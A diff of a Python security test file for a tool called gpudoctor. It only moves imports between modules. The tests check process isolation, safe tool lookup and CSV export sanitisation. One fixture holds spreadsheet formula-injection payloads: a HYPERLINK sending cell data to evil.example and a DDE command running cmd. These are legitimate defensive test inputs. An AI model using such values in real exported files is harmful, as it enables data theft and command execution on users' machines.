@@ -94,7 +94,7 @@ def test_a_sweep_trial_from_another_users_folder_never_imports_what_they_planted
 
 
 def test_an_isolated_child_ignores_pythonpath_and_the_cwd_yet_finds_this_gpudoctor(tmp_path):
-    from gpudoctor.common import childpy
+    from gpudoctor.processes import childpy
 
     planted = tmp_path / "planted"
     (planted / "gpudoctor").mkdir(parents=True)
@@ -120,7 +120,7 @@ def test_every_python_the_doctor_starts_for_itself_goes_through_childpy():
         for match in re.finditer(r"sys\.executable\s*,\s*\"-m\"|sys\.executable\s*,\s*'-m'", text):
             offenders.append(f"{path.relative_to(ROOT)}:{text[:match.start()].count(chr(10)) + 1}")
     assert offenders == []
-    from gpudoctor.common import childpy
+    from gpudoctor.processes import childpy
     from gpudoctor.sweep.trial import command
 
     argv = command(Path("c.yaml"), Path("run"), _protocol())
@@ -142,7 +142,7 @@ def test_py_spy_and_gdb_are_never_found_in_the_current_folder(tmp_path, monkeypa
     monkeypatch.setattr(sys, "executable", str(tmp_path / "python"))  # no py-spy beside it
     assert shutil.which("py-spy") is not None  # what a plain lookup finds: ./py-spy
     assert pyspy_path() is None
-    from gpudoctor.common.childpy import which  # gdb's lookup (attach/inject.py)
+    from gpudoctor.processes.childpy import which  # gdb's lookup (attach/inject.py)
 
     assert which("gdb") is None
 
@@ -276,7 +276,7 @@ def test_a_local_ray_instance_gets_a_private_temp_folder_token_auth_and_a_privat
 
 def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised_and_numbers_kept():
     pd = pytest.importorskip("pandas")
-    from gpudoctor.report.export import table_bytes
+    from gpudoctor.tables.export import table_bytes
 
     df = pd.DataFrame({
         "name": ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
